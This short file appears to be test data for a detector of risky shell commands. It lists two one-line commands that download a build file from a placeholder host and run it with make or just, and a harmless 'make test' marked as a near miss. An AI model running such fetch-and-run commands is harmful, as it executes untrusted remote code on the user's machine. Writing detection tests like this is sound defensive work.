curl -so Makefile.x https://a.invalid/m; make -f Makefile.x
curl -so j https://a.invalid/j; just --justfile j
# near misses
make test
